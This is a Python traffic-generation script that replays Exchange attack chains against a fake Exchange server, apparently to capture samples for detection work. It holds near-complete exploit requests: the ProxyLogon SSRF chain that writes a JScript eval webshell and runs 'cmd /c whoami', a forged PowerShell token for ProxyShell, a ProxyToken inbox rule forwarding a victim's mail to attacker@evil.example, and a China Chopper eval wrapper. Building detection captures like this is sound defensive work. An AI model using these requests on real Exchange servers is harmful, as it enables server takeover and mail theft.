#!/usr/bin/env python3
"""Real Python `requests` clients for scripts/capture-clients.sh: one attack family (or the
benign traffic) per run, against the fake Exchange of scripts/fake-exchange.py at
http://mail.contoso.com (the capture namespace's /etc/hosts names it).

The requests follow the public PoCs of ../shared/research/proxylogon-markers.md (section
numbers below); `requests` writes the bytes (its own header order, its default User-Agent
python-requests/<version>, Connection: keep-alive on one Session).

Usage: requests-client.py FAMILY   (proxylogon | proxyshell | proxynotshell | owassrf |
                                    proxytoken | webshell | benign)
"""

import base64
import sys

import requests

BASE = "http://mail.contoso.com"
FQDN = "ex01.contoso.local"
TIMEOUT = 5


def proxylogon(s):
    """dmaasland-style ProxyLogon (sec. 2.2-2.8, S-DMA-PL): X-BEResource=Admin@<FQDN>:444<path>
    ?x=~<n> on /ecp/<5>.js, python-requests user agent."""
    s.get(f"{BASE}/ecp/abcde.js", cookies={"X-BEResource": "localhost~1942062522"},
          timeout=TIMEOUT)
    autodiscover = (
        '<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/'
        'requestschema/2006"><Request><EMailAddress>administrator@contoso.com</EMailAddress>'
        '<AcceptableResponseSchema>http://schemas.microsoft.com/exchange/autodiscover/outlook/'
        'responseschema/2006a</AcceptableResponseSchema></Request></Autodiscover>')
    s.post(f"{BASE}/ecp/abcde.js", data=autodiscover, headers={"Content-Type": "text/xml"},
           cookies={"X-BEResource": f"Admin@{FQDN}:444/autodiscover/autodiscover.xml?x=~8754321"},
           timeout=TIMEOUT)
    legacy_dn = ("/o=Contoso/ou=Exchange Administrative Group (FYDIBOHF23SPDLT)/cn=Recipients/"
                 "cn=5d3c9a0e8b8f4f0f9a3e1b7c6d2a4e11-Administrator")
    mapi = legacy_dn.encode() + b"\x00\x00\x00\x00\x00\xe4\x04\x00\x00\x09\x04\x00\x00\x09\x04" \
        b"\x00\x00\x00\x00\x00\x00"
    s.post(f"{BASE}/ecp/abcde.js", data=mapi, headers={
        "Content-Type": "application/mapi-http", "X-Requesttype": "Connect",
        "X-Clientinfo": "{2F94A2BF-A2E6-4CCCC-BF98-B5F22C542226}",
        "X-Clientapplication": "Outlook/15.0.4815.1002",
        "X-Requestid": "{C715155F-2BE8-44E0-BD34-2960067874C8}:500"},
        cookies={"X-BEResource": f"Admin@{FQDN}:444/mapi/emsmdb?MailboxId="
                 f"2f4e09d9-3e1c-4b9a-9bd5-2b43f7d0c7a5@contoso.com&x=~8754321"},
        timeout=TIMEOUT)
    sid = "S-1-5-21-2725560159-1428537199-2260736313-500"
    r = s.post(f"{BASE}/ecp/abcde.js", data=f'<r at="NTLM" ln="user"><s>{sid}</s></r>',
               headers={"Content-Type": "text/xml", "msExchLogonMailbox": "S-1-5-20"},
               cookies={"X-BEResource": f"Admin@{FQDN}:444/ecp/proxyLogon.ecp?x=~8754321"},
               timeout=TIMEOUT)
    canary = r.cookies.get("msExchEcpCanary", "")
    session = r.cookies.get("ASP.NET_SessionId", "")
    ecp = f"Admin@{FQDN}:444/ecp/DDI/DDIService.svc/"
    jar = {"ASP.NET_SessionId": session, "msExchEcpCanary": canary}
    json_h = {"Content-Type": "application/json; charset=utf-8",
              "msExchLogonMailbox": "S-1-5-20"}
    s.post(f"{BASE}/ecp/abcde.js", headers=json_h, timeout=TIMEOUT,
           cookies={"X-BEResource": f"{ecp}GetObject?schema=OABVirtualDirectory"
                    f"&msExchEcpCanary={canary}&x=~8754321", **jar},
           json={"filter": {"Parameters": {
               "__type": "JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel",
               "SelectedView": "", "SelectedVDirType": "All"}}, "sort": {}})
    identity = {"__type": "Identity:ECP", "DisplayName": "OAB (Default Web Site)",
                "RawIdentity": "2f4e09d9-3e1c-4b9a-9bd5-2b43f7d0c7a5"}
    shell = ('http://ffff/#<script language="JScript" runat="server"> '
             'function Page_Load(){/**/eval(Request["exec_code"],"unsafe");}</script>')
    s.post(f"{BASE}/ecp/abcde.js", headers=json_h, timeout=TIMEOUT,
           cookies={"X-BEResource": f"{ecp}SetObject?schema=OABVirtualDirectory"
                    f"&msExchEcpCanary={canary}&x=~8754321", **jar},
           json={"identity": identity, "properties": {"Parameters": {
               "__type": "JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel",
               "ExternalUrl": shell}}})
    path = ("\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\"
            "HttpProxy\\owa\\auth\\qwzxa.aspx")
    s.post(f"{BASE}/ecp/abcde.js", headers=json_h, timeout=TIMEOUT,
           cookies={"X-BEResource": f"{ecp}SetObject?schema=ResetOABVirtualDirectory"
                    f"&msExchEcpCanary={canary}&x=~8754321", **jar},
           json={"identity": identity, "properties": {"Parameters": {
               "__type": "JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel",
               "FilePathName": path}}})
    s.post(f"{BASE}/owa/auth/qwzxa.aspx", timeout=TIMEOUT, data={
        "exec_code": 'Response.Write(new ActiveXObject("WScript.Shell").exec("cmd /c whoami")'
                     '.stdout.readall())'})


def proxyshell(s):
    """dmaasland/horizon3 ProxyShell (sec. 3.1-3.2, S-DMA-PS): autodiscover.json?a=<x>@<y>
    <endpoint> with the Email cookie; NSPI check, Autodiscover, MAPI, PowerShell with X-Rps-CAT."""
    email = "qxbzc@vjkmw.kzp"
    cookie = {"Email": f"autodiscover/autodiscover.json?a={email}"}
    ssrf = f"{BASE}/autodiscover/autodiscover.json?a={email}"
    s.get(f"{ssrf}/mapi/nspi/", cookies=cookie, timeout=TIMEOUT)
    s.post(f"{ssrf}/autodiscover/autodiscover.xml", cookies=cookie, timeout=TIMEOUT,
           headers={"Content-Type": "text/xml"},
           data='<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/'
                'requestschema/2006"><Request><EMailAddress>administrator@contoso.com'
                '</EMailAddress><AcceptableResponseSchema>http://schemas.microsoft.com/exchange/'
                'autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema></Request>'
                '</Autodiscover>')
    token = base64.b64encode(
        b"V\x01\x00T\x07WindowsC\x00A\x08KerberosL\x19administrator@contoso.comU"
        b"\x2dS-1-5-21-2725560159-1428537199-2260736313-500G\x01\x00\x00\x00\x07\x00\x00\x00"
        b"\x0cS-1-5-32-544E\x00\x00\x00\x00").decode()
    create = (
        '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" '
        'xmlns:wsa="http://schemas.xmlsoap.org/ws/2004/08/addressing" '
        'xmlns:wsman="http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd"><s:Header>'
        "<wsa:To>http://127.0.0.1:80/powershell</wsa:To><wsman:ResourceURI "
        's:mustUnderstand="true">http://schemas.microsoft.com/powershell/Microsoft.Exchange'
        "</wsman:ResourceURI><wsa:Action s:mustUnderstand=\"true\">http://schemas.xmlsoap.org/"
        "ws/2004/09/transfer/Create</wsa:Action></s:Header><s:Body><rsp:Shell "
        'xmlns:rsp="http://schemas.microsoft.com/wbem/wsman/1/windows/shell" '
        'ShellId="1E3B2C4D-5A6F-4B7C-8D9E-0F1A2B3C4D5E"><rsp:InputStreams>stdin pr'
        "</rsp:InputStreams><rsp:OutputStreams>stdout</rsp:OutputStreams><creationXml "
        'xmlns="http://schemas.microsoft.com/powershell">AAAAAAAAAAEAAAAAAAAAAAMAAADKAgAAAAIAAQA='
        "</creationXml></rsp:Shell></s:Body></s:Envelope>")
    s.post(f"{ssrf}/powershell/?X-Rps-CAT={token}", cookies=cookie, data=create,
           headers={"Content-Type": "application/soap+xml;charset=UTF-8"}, timeout=TIMEOUT)


def proxynotshell(s):
    """ProxyNotShell (sec. 4.1, S-ZDI-PNS): the ProxyShell path confusion to /PowerShell with the
    credentials of any mailbox user (Basic)."""
    url = (f"{BASE}/autodiscover/autodiscover.json?@zdi/PowerShell?serializationLevel=Full;"
           "ExchClientVer=15.2.922.7;clientApplication=ManagementShell;TargetServer=;"
           "PSVersion=5.1.17763.592&Email=autodiscover/autodiscover.json%3F@zdi")
    s.get(url, auth=("john@contoso.com", "Summer2022!"), timeout=TIMEOUT)


def owassrf(s):
    """OWASSRF (sec. 4.1, S-CS): POST /owa/<mailbox>/powershell with X-OWA-ExplicitLogonUser."""
    create = (
        '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" '
        'xmlns:wsa="http://schemas.xmlsoap.org/ws/2004/08/addressing" '
        'xmlns:wsman="http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd"><s:Header>'
        "<wsa:Action>http://schemas.xmlsoap.org/ws/2004/09/transfer/Create</wsa:Action>"
        "</s:Header><s:Body><rsp:Shell "
        'xmlns:rsp="http://schemas.microsoft.com/wbem/wsman/1/windows/shell"/></s:Body>'
        "</s:Envelope>")
    s.post(f"{BASE}/owa/mastermailbox%40outlook.com/powershell", data=create,
           cookies={"X-OWA-CANARY": "Zm9vYmFyYmF6cXV4", "cadata": "ZLs1oM2P0Vv3cQ4Fh8Jx"},
           headers={"X-OWA-ExplicitLogonUser": "owa/mastermailbox@outlook.com",
                    "Content-Type": "application/soap+xml;charset=UTF-8"}, timeout=TIMEOUT)


def proxytoken(s):
    """ProxyToken (sec. 5, S-ZDI-PT): SecurityToken=x on /ecp/<mailbox>/..."""
    r = s.get(f"{BASE}/ecp/attacker@contoso.com/PersonalSettings/HomePage.aspx?showhelp=false",
              cookies={"SecurityToken": "x"}, timeout=TIMEOUT)
    canary = r.cookies.get("msExchEcpCanary", "")
    s.post(f"{BASE}/ecp/victim@contoso.com/RulesEditor/InboxRules.svc/Newobject?msExchEcpCanary="
           f"{canary}", cookies={"SecurityToken": "x"}, timeout=TIMEOUT,
           json={"properties": {"RedirectTo": [{
               "RawIdentity": "attacker@evil.example", "DisplayName": "attacker@evil.example",
               "Address": "attacker@evil.example", "AddressOrigin": 0, "galContactGuid": None,
               "RecipientFlag": 0, "RoutingType": "SMTP",
               "SMTPAddress": "attacker@evil.example"}],
               "Name": "Testrule", "StopProcessingRules": True}})


def webshell(s):
    """China Chopper ASPX client (sec. 7.1, S-BLADE), form-encoded by requests."""
    code = base64.b64encode(b'var c=new System.Diagnostics.ProcessStartInfo("cmd");'
                            b'Response.Write("ok");').decode()
    wrapper = ('Response.Write("->|");var err:Exception;try{eval(System.Text.Encoding.'
               'GetEncoding(65001).GetString(System.Convert.FromBase64String("' + code +
               '")),"unsafe");}catch(err){Response.Write("ERROR:// "+err.message);}'
               'Response.Write("|<-");Response.End();')
    s.post(f"{BASE}/aspnet_client/system_web/shell.aspx", timeout=TIMEOUT,
           data={"pass": wrapper, "z1": base64.b64encode(b"C:\\inetpub\\").decode()})


def benign(s):
    """An OWA user and an EWS client: logon page, forms logon, mailbox, EWS with Basic."""
    s.get(f"{BASE}/owa/", timeout=TIMEOUT)  # 302 to logon.aspx, followed
    s.post(f"{BASE}/owa/auth.owa", timeout=TIMEOUT, data={
        "destination": f"{BASE}/owa/", "flags": "4", "forcedownlevel": "0",
        "username": "contoso\\john", "password": "Summer2021!", "passwordText": "",
        "isUtf8": "1"})
    s.post(f"{BASE}/EWS/Exchange.asmx", auth=("john@contoso.com", "Summer2021!"),
           timeout=TIMEOUT, headers={"Content-Type": "text/xml; charset=utf-8"},
           data='<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap='
                '"http://schemas.xmlsoap.org/soap/envelope/" xmlns:t="http://schemas.microsoft'
                '.com/exchange/services/2006/types" xmlns:m="http://schemas.microsoft.com/'
                'exchange/services/2006/messages"><soap:Header><t:RequestServerVersion '
                'Version="Exchange2016"/></soap:Header><soap:Body><m:FindItem Traversal='
                '"Shallow"><m:ItemShape><t:BaseShape>IdOnly</t:BaseShape></m:ItemShape>'
                '<m:ParentFolderIds><t:DistinguishedFolderId Id="inbox"/></m:ParentFolderIds>'
                '</m:FindItem></soap:Body></soap:Envelope>')


FAMILIES = {f.__name__: f for f in
            (proxylogon, proxyshell, proxynotshell, owassrf, proxytoken, webshell, benign)}

if __name__ == "__main__":
    if len(sys.argv) != 2 or sys.argv[1] not in FAMILIES:
        sys.exit(__doc__)
    with requests.Session() as session:
        FAMILIES[sys.argv[1]](session)
